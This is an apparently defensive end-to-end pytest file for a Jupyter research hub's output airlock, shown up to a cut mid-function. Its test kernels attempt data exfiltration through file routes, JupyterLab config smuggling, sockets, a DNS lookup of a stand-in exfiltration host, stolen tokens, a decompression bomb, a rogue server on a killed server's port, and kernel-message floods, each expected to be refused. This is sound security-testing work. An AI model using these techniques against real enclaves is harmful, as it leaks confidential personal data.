"""The airlock, attacked on a real hub: an ordinary researcher (ana, in P001) and another one
(olga, in P002) try every way out of the environment that does not pass output checking.

Each attack runs from a researcher's kernel over the kernel websocket, or from outside it over
HTTP or the machine's sockets, and must be refused: file downloads through ``/files/``, the
contents API, ``/view/``, nbconvert and terminals; uploads of data; a dataset streamed as kernel
output; a TCP or UDP socket to a listener on 127.0.0.1 standing in for the internet, and a DNS
lookup; the environment API through the public port, from root's account and from another
researcher's account with a valid token; another account finding and reaching a kernel's port;
a decompression bomb (the API's peak memory stays under a stated bound); a 5 MB dataset name
(the audit event stays bounded); deep JSON; and another project's request and outputs.

Needs root and ``make hub-prerequisites`` (nft among them); fails, never skips, without them.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import pwd
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests
from hub_fixtures import (
    Researcher,
    RunningHub,
    build_hub,
    events,
    hub_base,  # noqa: F401 (fixture)
    remove_test_accounts,
    unix_account_of,
)
from jupyter_server.services.kernels.connection.base import serialize_msg_to_ws_v1
from tornado.httpclient import HTTPRequest
from tornado.websocket import websocket_connect

from srs.governance.access import AccessDenied
from srs.governance.audit import verify_chain
from srs.governance.policy import PolicySet
from srs.governance.registry import open_registry
from srs.hub.client import RemoteSession

USERNAMES = ["ana", "ben", "olga", "stu", "cho"]
PROJECTS = ["P001", "P002"]
# Long enough that no server is culled while the attacks run.
IDLE_TIMEOUT_SECONDS = 900
# What the environment API's resident memory may grow by while it refuses an 800 MB bomb.
BOMB_MEMORY_BOUND_BYTES = 150 * 1024 * 1024


@pytest.fixture(scope="module")
def hub(hub_base: Path, policies: PolicySet) -> Iterator[RunningHub]:  # noqa: F811
    remove_test_accounts(USERNAMES, PROJECTS)
    running = build_hub(hub_base, policies, idle_timeout=IDLE_TIMEOUT_SECONDS)
    try:
        running.start()
        yield running
    finally:
        running.stop()
        remove_test_accounts(USERNAMES, PROJECTS)


def server_for(hub: RunningHub, username: str, project: str) -> Researcher:
    person = Researcher(hub, username)
    assert person.sign_in().status_code == 302
    person.request_token()
    current = person.server()
    if current is not None:
        person.api("DELETE", f"/hub/api/users/{username}/server")
        deadline = time.monotonic() + 60
        while person.server() is not None:
            assert time.monotonic() < deadline, hub.log_tail()
            time.sleep(0.5)
    reply = person.start_server(project)
    assert reply.status_code in (201, 202), hub.log_tail(12000)
    person.wait_until_ready()
    return person


@pytest.fixture(scope="module")
def ana(hub: RunningHub) -> Researcher:
    return server_for(hub, "ana", "P001")


@pytest.fixture(scope="module")
def ana_kernel(ana: Researcher) -> str:
    kernel = ana.start_kernel()
    ready = ana.run(kernel, "import srs, json, os, socket; s = srs.session(); print(s.project)")
    assert ready.error is None and ready.output.strip() == "P001", ready
    return kernel


def run_json(person: Researcher, kernel: str, code: str) -> dict:
    result = person.run(kernel, code)
    return result.json()


# ------------------------------------------------------------------ no file egress
WRITE_FILES = """
import json, nbformat
from pathlib import Path
journeys = s.dataset("linked/journeys")
journeys.to_csv(Path.home() / "export.csv")
(Path.home() / "export.parquet").write_bytes(journeys.to_parquet())
(Path.home() / "analysis.py").write_text("print('hello')\\n")
small = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1")])
nbformat.write(small, Path.home() / "analysis.ipynb")
big = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("x" * 3_000_000)])
nbformat.write(big, Path.home() / "big.ipynb")
print(json.dumps({"rows": len(journeys)}))
"""


def test_no_file_leaves_through_the_browser(hub: RunningHub, ana: Researcher, ana_kernel: str):
    assert run_json(ana, ana_kernel, WRITE_FILES)["rows"] == 600
    user = "/user/ana"

    def status(method: str, path: str, **options) -> int:
        reply = ana.api(method, f"{user}{path}", **options)
        if reply.status_code < 400:
            assert "person_key" not in reply.text, f"{method} {path} gave data back"
        return reply.status_code

    # Raw files and every rendering of them.
    for path in ("export.csv", "export.parquet", "analysis.py", "analysis.ipynb"):
        assert status("GET", f"/files/{path}") == 403, path
        assert status("GET", f"/view/{path}") == 403, path
    for form in ("html", "script", "markdown", "pdf", "notebook"):
        assert status("GET", f"/nbconvert/{form}/analysis.ipynb") == 403, form
    assert status("GET", "/api/nbconvert") == 403
    assert status("POST", "/api/terminals") in (403, 404)
    assert status("GET", "/terminals/1") in (403, 404)

    # The contents API: data files' content never; metadata and listings yes.
    for query in ("", "?content=1", "?content=1&format=base64&type=file", "?type=file"):
        assert status("GET", f"/api/contents/export.csv{query}") == 403, query
        assert status("GET", f"/api/contents/export.parquet{query}") == 403, query
    metadata = ana.api("GET", f"{user}/api/contents/export.csv?content=0")
    assert metadata.status_code == 200 and metadata.json()["content"] is None
    listing = ana.api("GET", f"{user}/api/contents/")
    assert listing.status_code == 200
    assert {"export.csv", "analysis.ipynb"} <= {item["name"] for item in listing.json()["content"]}
    # Notebooks and code open; a notebook over the policy's size does not.
    notebook = ana.api("GET", f"{user}/api/contents/analysis.ipynb")
    assert notebook.status_code == 200 and notebook.json()["type"] == "notebook"
    assert ana.api("GET", f"{user}/api/contents/analysis.py").status_code == 200
    too_big = ana.api("GET", f"{user}/api/contents/big.ipynb")
    assert too_big.status_code == 403 and "clear the notebook's outputs" in too_big.text

    # A data file cannot be renamed or copied into something the browser reads.
    renamed = ana.api("PATCH", f"{user}/api/contents/export.csv", json={"path": "export.py"})
    assert renamed.status_code == 403
    copied = ana.api("POST", f"{user}/api/contents/", json={"copy_from": "export.csv"})
    assert copied.status_code == 403
    assert status("GET", "/api/contents/export.py") == 404

    # Uploads: notebooks and code of a bounded size only.
    data = {"type": "file", "format": "text", "content": "person_key\n1\n"}
    assert status("PUT", "/api/contents/upload.csv", json=data) == 403
    limit = hub.policies.access.airlock.max_upload_file_bytes
    huge = {"type": "file", "format": "text", "content": "#" * (limit + 1)}
    assert status("PUT", "/api/contents/huge.py", json=huge) in (403, 413)
    code = {"type": "file", "format": "text", "content": "print(1)\n"}
    assert status("PUT", "/api/contents/uploaded.py", json=code) in (200, 201)


SMUGGLE_INTO_LAB = """
import json
from pathlib import Path
rows = s.dataset("linked/journeys")
marker = "SMUGGLED:" + rows["person_key"].iloc[0]
home = Path.home()
def put(relative, text):
    path = home / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
put(".jupyter/labconfig/page_config.json", json.dumps({"smuggled": marker}))
put(".jupyter/jupyter_server_config.json", json.dumps({"ServerApp": {"terminals_enabled": True}}))
put(
    ".jupyter/lab/user-settings/@jupyterlab/apputils-extension/themes.jupyterlab-settings",
    json.dumps({"theme": marker}),
)
put(
    ".jupyter/lab/workspaces/smuggled-abc.jupyterlab-workspace",
    json.dumps({"data": {"smuggled": marker}, "metadata": {"id": "smuggled"}}),
)
put(".local/share/jupyter/labextensions/smuggle/package.json", json.dumps({"name": "smuggle"}))
put(".local/share/jupyter/labextensions/smuggle/static/rows.js", marker)
print(json.dumps({"marker": marker}))
"""


def test_jupyterlab_serves_nothing_a_kernel_wrote(
    hub: RunningHub, ana: Researcher, ana_kernel: str
):
    """JupyterLab is the researchers' interface; a kernel writes a person key into every file
    Lab reads besides notebooks (page config, user settings, workspaces, extensions, the server's
    own config), and the browser finds it in none of them."""
    marker = run_json(ana, ana_kernel, SMUGGLE_INTO_LAB)["marker"]
    user = "/user/ana"
    page = ana.api("GET", f"{user}/lab")
    assert page.status_code == 200 and "jupyter-config-data" in page.text, page.status_code
    assert marker not in page.text
    # The download and export plugins are disabled in the page the browser gets.
    for plugin in (
        "@jupyterlab/docmanager-extension:download",
        "@jupyterlab/filebrowser-extension:download",
        "@jupyterlab/notebook-extension:export",
    ):
        assert plugin in page.text, plugin
    for path in (
        "/lab/api/settings/@jupyterlab/apputils-extension:themes",
        "/lab/api/settings/",
        "/lab/api/workspaces",
        "/lab/api/workspaces/smuggled",
        "/lab/extensions/smuggle/static/rows.js",
        "/lab/api/extensions",
    ):
        reply = ana.api("GET", f"{user}{path}")
        assert marker not in reply.text, path
    # Saving a workspace or a setting keeps nothing a later read could carry back.
    workspace = {"data": {"smuggled": marker}, "metadata": {"id": "later"}}
    ana.api("PUT", f"{user}/lab/api/workspaces/later", json=workspace)
    assert marker not in ana.api("GET", f"{user}/lab/api/workspaces/later").text
    # The server's configuration in the researcher's home changed nothing: terminals stay off.
    assert ana.api("POST", f"{user}/api/terminals").status_code in (403, 404)


def test_kernel_output_to_the_browser_is_bounded(hub: RunningHub, ana: Researcher, ana_kernel: str):
    airlock = hub.policies.access.airlock
    # One message over the size limit: withheld, and the cell is told.
    one = ana.run(ana_kernel, "print(s.dataset('linked/journeys').to_csv() * 20)")
    assert len(one.output) < airlock.max_output_message_bytes
    assert "withheld" in one.output
    # Many small messages: at most the window's budget reaches the browser. (The window is
    # the server's, not the websocket's: what a cell prints after a flood waits for it too.)
    time.sleep(airlock.output_window_seconds + 1)
    sent = 40 * len(ana.run(ana_kernel, "print(s.dataset('linked/journeys').to_csv())").output)
    budget = airlock.output_bytes_per_second * airlock.output_window_seconds
    assert sent > 4 * budget  # the attack tries to send far more than the budget
    stream = ana.run(
        ana_kernel,
        "import sys, time\n"
        "rows = s.dataset('linked/journeys').to_csv().splitlines()\n"
        "for _ in range(40):\n"
        "    for row in rows:\n"
        "        print(row)\n"
        "    sys.stdout.flush(); time.sleep(0.01)\n",
        timeout=300,
    )
    assert len(stream.output.encode()) < budget + airlock.max_output_message_bytes
    assert "over the environment's rate" in stream.output
    time.sleep(airlock.output_window_seconds + 1)  # the next test's output is not held back


# ------------------------------------------------------------------ no network
@contextlib.contextmanager
def listeners() -> Iterator[dict]:
    """A TCP and a UDP listener on 127.0.0.1 (and TCP on ::1), standing in for the internet;
    what reached them is recorded."""
    seen: dict = {"tcp": 0, "udp": 0, "tcp6": 0}
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp6 = None
    with contextlib.suppress(OSError):
        tcp6 = socket.create_server(("::1", 0), family=socket.AF_INET6)
    stop = threading.Event()

    def accept(server: socket.socket, key: str) -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                seen[key] += 1
                connection.close()
            except OSError:
                continue

    def receive() -> None:
        udp.settimeout(0.2)
        while not stop.is_set():
            try:
                udp.recvfrom(100)
                seen["udp"] += 1
            except OSError:
                continue

    threads = [threading.Thread(target=accept, args=(tcp, "tcp")), threading.Thread(target=receive)]
    if tcp6 is not None:
        threads.append(threading.Thread(target=accept, args=(tcp6, "tcp6")))
    for thread in threads:
        thread.start()
    seen["ports"] = {
        "tcp": tcp.getsockname()[1],
        "udp": udp.getsockname()[1],
        "tcp6": tcp6.getsockname()[1] if tcp6 else None,
    }
    try:
        yield seen
    finally:
        stop.set()
        for thread in threads:
            thread.join()
        for server in (tcp, udp, tcp6):
            if server is not None:
                server.close()


NETWORK_ATTEMPTS = """
import json, socket
def attempt(action):
    try:
        action()
        return "reached"
    except OSError as exc:
        return type(exc).__name__
def tcp(host, port, family=socket.AF_INET):
    connection = socket.socket(family, socket.SOCK_STREAM)
    connection.settimeout(3)
    try:
        connection.connect((host, port))
    finally:
        connection.close()
def udp(host, port):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sender.sendto(b"rows", (host, port))
    finally:
        sender.close()
nameservers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
ports = {ports}
print(json.dumps({{
    "tcp": attempt(lambda: tcp("127.0.0.1", ports["tcp"])),
    "tcp6": attempt(lambda: tcp("::1", ports["tcp6"], socket.AF_INET6)) if ports["tcp6"] else "none",
    "udp": attempt(lambda: udp("127.0.0.1", ports["udp"])),
    "dns_server": [attempt(lambda: udp(server, 53)) for server in nameservers[:2]] or ["none"],
    "lookup": attempt(lambda: socket.getaddrinfo("data-exfiltration.example.org", 443)),
    "proxy": attempt(lambda: tcp("127.0.0.1", {public})),
    "hub_api": attempt(lambda: tcp("127.0.0.1", {hub_port})),
    "environment_api": attempt(lambda: s.datasets()),
}}))
"""


def test_a_kernel_reaches_no_network(hub: RunningHub, ana: Researcher, ana_kernel: str) -> None:
    with listeners() as seen:
        # Root's own control: the listeners answer anyone else.
        socket.create_connection(("127.0.0.1", seen["ports"]["tcp"]), timeout=3).close()
        time.sleep(0.5)
        assert seen["tcp"] == 1
        code = NETWORK_ATTEMPTS.format(
            ports=json.dumps(seen["ports"]), public=hub.ports.public, hub_port=hub.ports.hub
        )
        result = run_json(ana, ana_kernel, code)
        time.sleep(0.5)
        assert seen["tcp"] == 1 and seen["udp"] == 0 and seen["tcp6"] == 0, seen
    assert result["tcp"] == "ConnectionRefusedError", result
    assert result["tcp6"] in ("ConnectionRefusedError", "none"), result
    assert result["udp"] == "PermissionError", result
    assert all(outcome in ("PermissionError", "none") for outcome in result["dns_server"]), result
    assert result["lookup"] == "gaierror", result
    assert result["proxy"] == "ConnectionRefusedError", result
    # Not even the hub's API, which only the server (in its own cgroup) may reach.
    assert result["hub_api"] == "ConnectionRefusedError", result
    # The environment API, on its Unix socket, is the one way out.
    assert result["environment_api"] == "reached", result


# ------------------------------------------------------------------ the API: its own account only
def test_the_api_answers_only_its_own_account(hub: RunningHub, ana: Researcher, ana_kernel: str):
    token = ana.run(ana_kernel, "print(os.environ['SRS_SESSION_TOKEN'])").output.strip()
    # No route through the public port, and no TCP port at all.
    for path in ("/services/srs-api/session", "/services/srs-api/call"):
        reply = requests.post(
            f"{hub.url}{path}", headers={"Authorization": f"Bearer {token}"}, timeout=30
        )
        assert reply.status_code != 200 and "P001" not in reply.text, (path, reply.status_code)
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", hub.ports.api), timeout=3).close()
    # The socket, with ana's valid token, from root's account: refused and audited.
    with pytest.raises(AccessDenied, match="works only from the server it was issued to"):
        RemoteSession(hub.api_url, token)
    ana_uid = pwd.getpwnam(unix_account_of("ana")).pw_uid
    refused = events(hub, action="hub.session.resolve", outcome="deny")
    assert any(f"uid {ana_uid}, not uid 0" in event.reason for event in refused)

    # From olga's account (her own server and kernel), with ana's token: refused and audited.
    olga = server_for(hub, "olga", "P002")
    kernel = olga.start_kernel()
    stolen = olga.run(
        kernel,
        "import os\nfrom srs.hub.client import RemoteSession\n"
        f"RemoteSession(os.environ['SRS_API_URL'], {token!r})",
    )
    assert stolen.error is not None and "issued to" in stolen.error, stolen
    olga_uid = pwd.getpwnam(unix_account_of("olga")).pw_uid
    refused = events(hub, action="hub.session.resolve", outcome="deny")
    assert any(f"not uid {olga_uid}" in event.reason for event in refused)
    # ana's own kernel still works.
    assert ana.run(ana_kernel, "print(s.project)").output.strip() == "P001"


# ------------------------------------------------------------------ no kernel TCP ports
def _tcp_table() -> list[tuple[int, int, int, str]]:
    """(local port, uid, inode, state) of every TCP socket in this network namespace."""
    rows = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            rows.append(
                (int(fields[1].rsplit(":", 1)[1], 16), int(fields[7]), int(fields[9]), fields[3])
            )
    return rows


def _socket_inodes(pid: int) -> set[int]:
    inodes = set()
    for descriptor in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            target = descriptor.readlink().name
            if target.startswith("socket:["):
                inodes.add(int(target[8:-1]))
    return inodes


def _kernel_pids(uid: int) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if (
                    entry.stat().st_uid == uid
                    and b"srs.hub.kernel" in (entry / "cmdline").read_bytes()
                ):
                    pids.append(int(entry.name))
    return pids


def test_a_kernel_has_no_tcp_port(hub: RunningHub, ana: Researcher, ana_kernel: str) -> None:
    # A forked subprocess's output still arrives (it goes through the IOPub pipe, now IPC).
    forked = ana.run(
        ana_kernel,
        "import multiprocessing as mp\n"
        "p = mp.get_context('fork').Process(target=print, args=('from a fork',)); p.start(); p.join()",
    )
    assert "from a fork" in forked.output, forked
    uid = pwd.getpwnam(unix_account_of("ana")).pw_uid
    kernels = _kernel_pids(uid)
    assert kernels, "no kernel process of ana's found"
    table = _tcp_table()
    tcp_inodes = {inode for _, _, inode, _ in table}
    for pid in kernels:
        sockets = _socket_inodes(pid)
        assert sockets, "the kernel has no sockets at all?"
        assert not sockets & tcp_inodes, f"kernel {pid} holds TCP sockets"
    unix_inodes = {
        int(line.split()[6]) for line in Path("/proc/net/unix").read_text().splitlines()[1:]
    }
    assert all(_socket_inodes(pid) & unix_inodes for pid in kernels)
    # ana's account listens on one TCP port: her server's, for the proxy.
    listening = {port for port, owner, _, state in table if owner == uid and state == "0A"}
    assert len(listening) == 1, listening
    # Another researcher's account cannot reach it (nor any port of ana's).
    olga = server_for(hub, "olga", "P002")
    kernel = olga.start_kernel()
    probe = olga.run(
        kernel,
        "import socket, json\n"
        "def reach(port):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', port), timeout=3).close(); return 'reached'\n"
        "    except OSError as exc:\n"
        "        return type(exc).__name__\n"
        f"print(json.dumps([reach(port) for port in {sorted(listening)}]))",
    )
    assert probe.json() == ["ConnectionRefusedError"] * len(listening), probe


# ------------------------------------------------------------------ the API's requests
def _api_pid(hub: RunningHub) -> int:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                command = (entry / "cmdline").read_bytes()
                if b"srs.hub.api" in command and str(hub.api_socket).encode() in command:
                    return int(entry.name)
    raise AssertionError("the environment API's process was not found")


def _resident(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no {field} for {pid}")


BOMB = """
import io, json, base64
import numpy as np, pyarrow as pa, pyarrow.parquet as pq
buffer = io.BytesIO()
pq.write_table(pa.table({"x": np.zeros(100_000_000, dtype=np.int64)}), buffer,
               compression="zstd", row_group_size=100_000_000)
payload = buffer.getvalue()
frame = {"__srs__": "frame", "parquet": base64.b64encode(payload).decode(), "attrs": {}}
body = json.dumps({"target": "session", "method": "crosstab", "args": [frame, "x"], "kwargs": {}})
try:
    s._request("POST", "call", body.encode())
    outcome = "accepted"
except Exception as exc:
    outcome = f"{type(exc).__name__}: {exc}"
deep = "[" * 200_000 + "]" * 200_000
try:
    s._request("POST", "call", ('{"method": "datasets", "args": ' + deep + "}").encode())
    deep_outcome = "accepted"
except Exception as exc:
    deep_outcome = f"{type(exc).__name__}: {exc}"
print(json.dumps({"request_bytes": len(body), "decoded_bytes": 100_000_000 * 8,
                  "outcome": outcome, "deep": deep_outcome}))
"""


def test_hostile_requests_are_refused_within_bounds(
    hub: RunningHub, ana: Researcher, ana_kernel: str
) -> None:
    pid = _api_pid(hub)
    before = _resident(pid, "VmHWM")
    result = run_json(ana, ana_kernel, BOMB)
    grown = _resident(pid, "VmHWM") - before
    assert result["request_bytes"] < 2_000_000 and result["decoded_bytes"] == 800_000_000
    assert result["outcome"].startswith(("RequestTooLarge", "WireError")), result
    assert grown < BOMB_MEMORY_BOUND_BYTES, f"the API's peak memory grew {grown / 1e6:.0f} MB"
    assert result["deep"].startswith("WireError"), result

    # A 5 MB dataset name is refused, and its audit event stays bounded.
    refused = ana.run(
        ana_kernel,
        "try:\n    s.dataset('linked/' + 'v' * 5_000_000)\n"
        "except Exception as exc:\n    print(type(exc).__name__)",
    )
    assert refused.output.strip() == "AccessDenied", refused
    bound = hub.policies.access.audit_field_max_chars
    (event,) = [e for e in events(hub, actor="ana", outcome="deny") if "vvvvvvvv" in e.target][-1:]
    for text in (event.target, event.reason, event.details or ""):
        assert len(text) <= 3 * bound + 500, len(text)
    registry = open_registry(hub.deployment.database_url)
    try:
        with registry.sessions() as db:
            assert verify_chain(db).intact
    finally:
        registry.dispose()


# ------------------------------------------------------------------ session scope
def test_a_session_acts_only_in_its_project(hub: RunningHub) -> None:
    # ana's P002 session makes an output and a request...
    ana = server_for(hub, "ana", "P002")
    kernel = ana.start_kernel()
    made = run_json(
        ana,
        kernel,
        "import srs, json\nfrom pathlib import Path\ns = srs.session()\n"
        "Path('notes.md').write_text('Method notes, no figures.')\n"
        "s.custom_output('notes.md', 'Plain-text method notes with no figures from the data', name='p002 notes')\n"
        "output = s.last_output.id\n"
        "s.custom_output('notes.md', 'Plain-text method notes with no figures from the data', name='p002 draft')\n"
        "draft = s.last_output.id\n"
        "request = s.submit('P002 request', [output])\n"
        "print(json.dumps({'output': output, 'draft': draft, 'request': request}))",
    )
    # ... which her P001 session can neither see nor change.
    ana = server_for(hub, "ana", "P001")
    kernel = ana.start_kernel()
    attempts = run_json(
        ana,
        kernel,
        "import srs, json\ns = srs.session()\n"
        "def attempt(action):\n"
        "    try:\n"
        "        action(); return 'done'\n"
        "    except Exception as exc:\n"
        "        return f'{type(exc).__name__}: {exc}'\n"
        f"ids = {json.dumps(made)}\n"
        "print(json.dumps({\n"
        "    'status': attempt(lambda: s.request_status(ids['request'])),\n"
        "    'rename': attempt(lambda: s.rename(ids['draft'], 'renamed from P001')),\n"
        "    'comment': attempt(lambda: s.comment(ids['draft'], 'commented from P001')),\n"
        "    'remove': attempt(lambda: s.remove(ids['draft'])),\n"
        "    'submit': attempt(lambda: s.submit('from P001', [ids['draft']])),\n"
        "}))",
    )
    for action, outcome in attempts.items():
        assert outcome != "done", (action, outcome)
        assert "P002 request" not in outcome and "p002" not in outcome, (action, outcome)
    denials = [e for e in events(hub, actor="ana", outcome="deny") if e.target.startswith("P001")]
    assert denials, "the refusals were not audited"


# ------------------------------------------------------------------ a kernel that kills its server
ROGUE = """
import os, signal, subprocess, sys, json, time
from pathlib import Path
uid = os.getuid()
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in Path(table).read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[7]) == uid and fields[3] == "0A":
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
(port,) = ports
(Path.home() / "rows.csv").write_text(s.dataset("linked/journeys").to_csv())
rogue = '''
import http.server, functools, socket, time, os
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser("~"))
for _ in range(400):
    try:
        server = http.server.HTTPServer(("127.0.0.1", PORT), handler)
        break
    except OSError:
        time.sleep(0.05)
open(os.path.expanduser("~/rogue-listening"), "w").write("yes")
server.timeout = 1
deadline = time.time() + 60
while time.time() < deadline:
    server.handle_request()
'''.replace("PORT", str(port))
subprocess.Popen([sys.executable, "-c", rogue], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
(Path.home() / "rogue-port").write_text(str(port))
time.sleep(0.5)
os.kill(os.getppid(), signal.SIGKILL)
"""


def test_a_kernel_that_kills_its_server_cannot_answer_in_its_place(hub: RunningHub) -> None:
    ana = server_for(hub, "ana", "P001")
    kernel = ana.start_kernel()
    assert ana.run(kernel, "import srs; s = srs.session()").error is None
    with contextlib.suppress(AssertionError):  # the websocket closes as the server dies
        ana.run(kernel, ROGUE, timeout=60)
    home = hub.user_home_base / unix_account_of("ana")
    port = int((home / "rogue-port").read_text())
    listening = home / "rogue-listening"
    deadline = time.monotonic() + 30
    while not listening.exists():
        assert time.monotonic() < deadline, "the rogue listener never bound the server's port"
        time.sleep(0.2)
    # Root's own request straight to the port, and a browser's through the proxy: the rogue
    # accepts the connection, but nothing it sends leaves its kernels' cgroup.
    with pytest.raises(requests.RequestException):
        requests.get(f"http://127.0.0.1:{port}/rows.csv", timeout=5)
    try:
        through_proxy = ana.api("GET", "/user/ana/rows.csv")
        assert "person_key" not in through_proxy.text
    except requests.RequestException:
        pass
    # The hub sees its server gone (polling every 5 s) and drops the route.
    deadline = time.monotonic() + 30
    while ana.server() is not None:
        assert time.monotonic() < deadline, "the hub did not notice the server died"
        time.sleep(1)


# ------------------------------------------------------------------ the limits' own loopholes
# Found by the security review of tests/hub/test_airlock_doors_e2e.py; each attack below
# got row-level data out before the fix in srs.hub.airlock that its test names.
def _execute(code: str) -> tuple[str, dict]:
    msg_id = uuid.uuid4().hex
    header = {
        "msg_id": msg_id,
        "msg_type": "execute_request",
        "username": "ana",
        "session": uuid.uuid4().hex,
        "date": datetime.now(UTC).isoformat(),
        "version": "5.3",
    }
    content = {
        "code": code,
        "silent": False,
        "store_history": False,
        "user_expressions": {},
        "allow_stdin": False,
        "stop_on_error": True,
    }
    return msg_id, {"header": header, "parent_header": {}, "metadata": {}, "content": content}


async def _collect(connection, seconds: float, received: list[bytes]) -> None:
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        try:
            raw = await asyncio.wait_for(connection.read_message(), left)
        except TimeoutError:
            return
        if raw is None:
            return
        received.append(raw.encode() if isinstance(raw, str) else raw)


def _browser(
    person: Researcher,
    kernels: list[str],
    code: str,
    seconds: float,
    *,
    reconnect_every: float = 0,
    v1: bool = False,
) -> list[bytes]:
    """Run ``code`` in each of ``kernels`` and collect every websocket message for ``seconds``
    (JupyterLab's v1 protocol if ``v1``); with ``reconnect_every``, reconnect that often."""
    subprotocols = ["v1.kernel.websocket.jupyter.org"] if v1 else None

    async def connect(kernel: str):
        url = (
            f"ws://127.0.0.1:{person.hub.ports.public}/user/{person.username}"
            f"/api/kernels/{kernel}/channels"
        )
        request = HTTPRequest(url, headers={"Authorization": f"token {person.token}"})
        return await websocket_connect(request, subprotocols=subprotocols)

    async def go() -> list[bytes]:
        received: list[bytes] = []
        connections = []
        for kernel in kernels:
            connection = await connect(kernel)
            _, message = _execute(code)
            if v1:
                frame = serialize_msg_to_ws_v1(
                    message, "shell", pack=lambda part: json.dumps(part).encode()
                )
                connection.write_message(frame, binary=True)
            else:
                connection.write_message(json.dumps({**message, "channel": "shell"}))
            connections.append(connection)
        end = time.monotonic() + seconds
        if reconnect_every:
            while time.monotonic() < end:
                await _collect(
                    connections[0], min(reconnect_every, end - time.monotonic()), received
                )
                connections[0].close()
                connections[0] = await connect(kernels[0])
        else:
            await asyncio.gather(*(_collect(each, seconds, received) for each in connections))
        for connection in connections:
            connection.close()
        return received

    return asyncio.run(go())


def _rows_received(received: list[bytes]) -> int:
    return sum(len(raw) for raw in received if b"person_key" in raw)


STATUS_FLOOD = """
import time
k = get_ipython().kernel
rows = s.dataset("linked/journeys").to_csv()
payload = (rows * (1 + 300_000 // len(rows)))[:300_000]
parent = k.get_parent("shell")
for _ in range(40):
    k.session.send(k.iopub_socket, "status", {"execution_state": "busy", "rows": payload},
                   parent=parent, ident=k._topic("status"))
    time.sleep(0.05)
"""
UNREADABLE_HEADERS = """
import time
k = get_ipython().kernel
rows = s.dataset("linked/journeys").to_csv().encode()
for _ in range(20):
    k.session.send_raw(k.iopub_socket, [b"\\xff" + rows * 10, b"{}", b"{}", b"{}"], ident=b"x")
    time.sleep(0.05)
"""
STATE_IN_THE_KERNEL_MODEL = """
import threading
k = get_ipython().kernel
rows = s.dataset("linked/journeys").to_csv()
parent = k.get_parent("shell")
def later():
    k.session.send(k.iopub_socket, "status", {"execution_state": rows * 10}, parent=parent,
                   ident=k._topic("status"))
threading.Timer(1.0, later).start()
"""


def test_no_kernel_message_escapes_the_output_limits(hub: RunningHub) -> None:
    """A kernel's own status messages (once let through uncounted, any size: 12 MB in 6 s),
    messages whose header does not unpack (passed on unread to JupyterLab's v1 protocol), and
    the execution state the server records from a status message (shown by /api/kernels):
    each carried rows past the limits. ``AirlockWebsocketConnection`` now counts every message
    and rebuilds a status over the rate from the browser's own request; ``AirlockKernelManager``
    shows Jupyter's states only."""
    ana = server_for(hub, "ana", "P001")
    kernel = ana.start_kernel()
    assert ana.run(kernel, "import srs; s = srs.session()").error is None
    airlock = hub.policies.access.airlock
    window = airlock.output_bytes_per_second * airlock.output_window_seconds
    assert _rows_received(_browser(ana, [kernel], STATUS_FLOOD, 6)) < window
    # Over the rate, the browser still learns that its cell finished (the idle status is
    # rebuilt from its own request), and is told what was withheld.
    over = ana.run(
        kernel, "import sys\nfor _ in range(400):\n    print('z' * 1000); sys.stdout.flush()"
    )
    assert "over the environment's rate" in over.output
    time.sleep(airlock.output_window_seconds + 1)
    assert ana.run(kernel, "print('after the flood')").output.strip() == "after the flood"
    assert ana.run(kernel, STATE_IN_THE_KERNEL_MODEL).error is None
    time.sleep(2)
    for path in (f"/api/kernels/{kernel}", "/api/kernels", "/api/sessions"):
        reply = ana.api("GET", f"/user/ana{path}")
        assert reply.status_code == 200 and "person_key" not in reply.text, path
    assert ana.api("GET", f"/user/ana/api/kernels/{kernel}").json()["execution_state"] == "unknown"
    # Last: a header that does not unpack also stops the server's activity tracking of this
    # kernel (pyzmq closes a stream whose callback raised), a harm to this kernel only.
    for v1 in (False, True):
        received = _browser(ana, [kernel], UNREADABLE_HEADERS, 4, v1=v1)
        assert _rows_received(received) < window, v1


STREAM_ROWS = """
import sys, time
rows = s.dataset("linked/journeys").to_csv()
chunk = (rows * 3)[:20_000]
for _ in range(2000):
    print(chunk)
    sys.stdout.flush(); time.sleep(0.02)
"""


def test_the_output_budget_is_the_servers_not_a_connections(hub: RunningHub) -> None:
    """The window was kept per websocket: reconnecting every 0.5 s renewed it (4.6 MB of rows
    in 12 s, against 0.44 MB) and six kernels streaming at once had six budgets. Now one
    window serves the whole server."""
    ana = server_for(hub, "ana", "P001")
    kernels = [ana.start_kernel() for _ in range(6)]
    for kernel in kernels:
        assert ana.run(kernel, "import srs; s = srs.session()").error is None
    airlock = hub.policies.access.airlock
    window = airlock.output_bytes_per_second * airlock.output_window_seconds
    seconds = 12
    allowed = window + airlock.output_bytes_per_second * seconds + 100_000
